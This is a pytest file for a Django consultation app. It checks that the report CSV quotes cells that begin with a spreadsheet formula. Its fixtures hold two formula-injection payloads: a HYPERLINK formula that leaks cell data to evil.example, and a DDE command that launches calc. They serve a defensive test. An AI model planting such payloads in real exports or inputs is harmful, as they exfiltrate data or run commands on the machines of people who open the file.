"""The report's CSV cannot carry a spreadsheet formula from what people typed."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.utils import timezone

from conftest import Persona
from ldsp.consultations.models import Round
from ldsp.consultations.services import report_publish, round_close
from ldsp.coproduction.services.comments import comment_create
from ldsp.coproduction.services.suggestions import suggestion_create
from ldsp.playbook.models import Section
from tests.factories import RoundFactory, current_revision, section_with_text

BODY = "First paragraph.\n\nSecond paragraph."
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
COMMAND = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def round_(db: None, contributor: Persona) -> Round:
    """An open round with a comment and a suggestion whose words start formulas."""
    section: Section = section_with_text("Topic", BODY, is_default=True)
    now = timezone.now()
    round_ = RoundFactory.create(
        playbook=section.playbook,
        opens_at=now - datetime.timedelta(days=7),
        closes_at=now + datetime.timedelta(days=7),
    )
    comment_create(
        actor=contributor.user,
        section=section,
        revision_id=current_revision(section).pk,
        body=LINK,
        quote="First paragraph",
    )
    suggestion_create(
        actor=contributor.user,
        section=section,
        base_revision_id=current_revision(section).pk,
        body=BODY.replace("Second", "Better second"),
        rationale=COMMAND,
    )
    return round_


def _rows(client: Client, round_: Round) -> dict[str, dict[str, str]]:
    response = client.get(f"/consultations/{round_.slug}/report.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv.DictReader(io.StringIO(response.content.decode()))
    return {row["kind"]: row for row in rows}


def test_the_live_report_csv_quotes_cells_that_start_a_formula(
    round_: Round, editor: Persona
) -> None:
    rows = _rows(editor.client, round_)
    assert rows["comment"]["summary"] == "'" + LINK
    assert rows["suggestion"]["summary"] == "'" + COMMAND
    assert rows["comment"]["section"] == "Topic"


def test_the_published_report_csv_quotes_cells_that_start_a_formula(
    round_: Round, editor: Persona
) -> None:
    round_close(actor=editor.user, round_=round_)
    round_.refresh_from_db()
    report_publish(actor=editor.user, round_=round_, outcome_summary="We changed one thing.")
    rows = _rows(Client(), round_)
    assert rows["comment"]["summary"].startswith("'=HYPERLINK(")
    assert rows["suggestion"]["summary"].startswith("'-2+3")
